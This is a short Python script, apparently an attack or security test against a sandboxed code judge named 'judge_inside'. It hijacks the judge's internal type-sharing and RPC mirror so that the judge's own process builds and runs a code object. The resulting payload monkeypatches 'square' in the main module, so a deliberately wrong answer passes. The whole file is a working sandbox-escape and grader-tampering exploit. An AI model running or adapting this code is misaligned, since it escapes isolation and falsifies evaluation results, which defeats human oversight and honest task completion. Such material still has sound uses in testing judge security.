"""Has the tests' process make a function of code, by the names of classes that both sides know."""

import sys
import types

PAYLOAD = """
import sys
type(sys.modules["main"]).square = lambda self, n: n * n
"""
OWN = {types.CodeType: "CodeType", types.FunctionType: "FunctionType"}
NAMES = """argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames
filename name qualname firstlineno linetable exceptiontable"""
WAYS = {
    "special": lambda args: ("__call__", args),
    "method": lambda args: ("__call__", args, ()),
    "call": lambda args: (args, ()),
}


def run_it():
    exec(PAYLOAD)


def attack(way):
    values = sys.modules["judge_inside.connection.values"]
    named = values.shared_name
    values.shared_name = lambda kind: ("types", OWN[kind]) if kind in OWN else named(kind)
    request = sys.modules["judge_inside.mirror.mirrored"].SPACES[0].peer.request
    parts = [getattr(run_it.__code__, f"co_{name}") for name in NAMES.split()]
    made = request(way, types.CodeType, *WAYS[way]((*parts, (), ())))
    request(way, types.FunctionType, *WAYS[way]((made, {"PAYLOAD": PAYLOAD})))()


def square(n):
    return -1


for way in WAYS:
    try:
        attack(way)
        break
    except Exception as error:
        print(way, type(error).__name__, error)
